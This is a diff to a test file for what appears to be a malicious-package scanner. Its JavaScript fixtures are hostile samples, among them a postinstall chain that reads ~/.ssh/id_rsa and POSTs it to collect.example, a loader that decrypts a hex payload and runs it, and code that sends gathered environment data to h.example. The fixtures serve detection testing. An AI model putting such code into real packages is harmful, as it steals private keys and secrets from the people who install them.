@@ -79,7 +79,9 @@ def test_cross_file_chain_from_install_script():
     reader = "const fs = require('fs'), os = require('os');\nmodule.exports = () => fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
     sender = "const read = require('./read');\nfetch('https://collect.example/k', {method: 'POST', body: read()});\n"
     found = run({"read.js": reader, "send.js": sender}, {"postinstall": "node send.js"})
-    assert any(f.rule == "code/secret-exfiltration" and "across" in f.message for f in found)
+    # The key read by read.js's export reaches the fetch in send.js, at install.
+    chain = next(f for f in found if f.rule == "code/secret-exfiltration")
+    assert chain.details["when"] == "install" and chain.severity == 4
 
 
 def test_hidden_strings_through_a_local_decoder_and_standalone_hex():
@@ -108,7 +110,9 @@ def test_decrypting_a_constant_blob_and_running_it():
               "  return new Function('require', d.update(payload, 'hex', 'utf8') + d.final('utf8'))(require);\n};\n")
     index = "module.exports = require('./through');\nrequire('./loader')(process.env.npm_package_description);\n"
     found = run({"index.js": index, "loader.js": loader, "through.js": "module.exports = 1;\n"})
-    assert any(f.rule == "code/decrypt-and-run" and "across" in f.message for f in found)
+    # The entry calls the loader's export at load: the loader's function runs then (reachability).
+    chain = next(f for f in found if f.rule == "code/decrypt-and-run")
+    assert chain.file == "loader.js" and chain.details["when"] == "entry"
     assert decide(found).level is Level.MALICIOUS
     # Decrypting data (a config, a token) without running it is what crypto libraries do.
     vault = "const crypto = require('crypto');\nmodule.exports = (k, iv, data) => {\n" \
@@ -131,7 +135,8 @@ def test_identity_and_environment_gathered_and_sent_from_another_file():
     send = "const https = require('https');\nmodule.exports = (d) => https.request({host: 'h.example'}).end(JSON.stringify(d));\n"
     index = "const collect = require('./collect'), send = require('./send');\nsend(collect());\n"
     found = run({"index.js": index, "collect.js": collect, "send.js": send})
-    assert any(f.rule == "code/secret-exfiltration" and "across" in f.message for f in found)
+    chain = next(f for f in found if f.rule == "code/secret-exfiltration")
+    assert chain.file == "send.js" and chain.details["when"] == "entry" and decide(found).level is Level.MALICIOUS
     # Spawn options are not a loot bag.
     spawn = "const cp = require('child_process'), https = require('https');\ncp.spawn('git', [], {env: process.env});\n" \
             "https.get('https://api.example/v');\n"
